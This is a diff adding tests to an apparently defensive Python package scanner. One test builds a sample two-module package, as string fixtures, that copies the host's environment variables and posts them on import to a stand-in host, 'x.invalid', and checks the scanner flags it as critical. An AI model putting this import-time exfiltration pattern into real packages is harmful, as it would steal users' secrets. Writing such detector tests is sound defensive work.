@@ -689,3 +689,46 @@ def test_bare_ip_contacted_on_import_is_suspicious() -> None:
     """
     assert ip_severity(beacon) == ["high"]
     assert ip_severity(beacon.replace("        register()\n", "")) == ["medium"]  # on request only
+
+
+def test_secrets_returned_by_another_module_are_followed_into_the_network_call() -> None:
+    collector = """
+        import os, socket
+
+        def host_info():
+            return {"host": socket.gethostname(), "env": os.environ.copy()}
+    """
+    sender = """
+        import urllib.request
+        from .info import host_info
+
+        urllib.request.urlopen("https://x.invalid/c", data=str(host_info()).encode())
+    """
+    files = {"demo/__init__.py": sender, "demo/info.py": collector}
+    assert _exfil_severities(files) == ["critical"]
+    # an absolute import of the package's own module, the caller listed first in the archive
+    absolute = sender.replace("from .info import", "from demo.info import")
+    assert _exfil_severities({"demo/__init__.py": absolute, "demo/info.py": collector}) == [
+        "critical"
+    ]
+    # a helper returning nothing secret keeps the call quiet
+    plain = collector.replace(', "env": os.environ.copy()', "").replace(
+        "socket.gethostname()", "'x'"
+    )
+    assert _exfil_severities({"demo/__init__.py": sender, "demo/info.py": plain}) == []
+
+
+def test_dependency_order_puts_imported_modules_first() -> None:
+    from pipvet.core.analysis.reach import dependency_order
+
+    art = artifact(
+        {
+            "demo/__init__.py": "from .b import f\nfrom . import c\n",
+            "demo/b.py": "from demo.c import g\n",
+            "demo/c.py": "import demo.b\n",  # a cycle: cut, never looped
+            "README.md": "",
+        }
+    )
+    order = [m.path.split("/", 1)[1] for m in dependency_order(art.members)]
+    assert order[0] == "README.md" and order[-1] == "demo/__init__.py"
+    assert set(order) == {"README.md", "demo/__init__.py", "demo/b.py", "demo/c.py"}
